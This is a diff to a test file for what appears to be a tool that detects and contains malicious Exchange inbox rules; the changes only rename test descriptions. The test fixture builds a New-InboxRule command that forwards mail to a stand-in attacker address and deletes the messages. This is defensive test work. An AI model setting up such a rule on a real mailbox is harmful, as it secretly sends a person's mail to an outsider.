@@ -34,7 +34,7 @@ const commands = async (record: string): Promise<readonly string[]> =>
 
 const forwarding = command('New-InboxRule', { Name: '.', ForwardTo: 'eve@evil.example', DeleteMessage: 'True' })
 
-it('the reason of a rule that an application made contains its parameters', () => {
+it('the reason of an alert on an inbox rule of an application contains the parameters of the inbox rule', () => {
   expect(reason(documentOf(forwarding))).toMatch(
     /changed settings for mara\.voss@northpier\.example: event "New-InboxRule" with Name \., ForwardTo eve@evil\.example, DeleteMessage True, from /,
   )
@@ -110,7 +110,7 @@ it.each([
   expect((await commands(record)).some((each) => expected.test(each))).toBe(true)
 })
 
-it('the containment saves a setting as evidence before it removes it', async () => {
+it('the containment saves a setting as evidence before it removes the setting', async () => {
   const all = await commands(forwarding)
   const [saved, removed] = ['Out-File exchange-', 'Remove-InboxRule'].map((part) =>
     all.findIndex((each) => each.includes(part)),
@@ -119,7 +119,7 @@ it('the containment saves a setting as evidence before it removes it', async () 
   expect(removed).toBeGreaterThan(saved as number)
 })
 
-it('a removed rule needs no step, and a hostile name is in no command', async () => {
+it('the containment has no step for a removed inbox rule, and no command contains a hostile name', async () => {
   expect(await commands(command('Remove-InboxRule', { Identity: '.' }))).not.toContainEqual(
     expect.stringContaining('InboxRule'),
   )
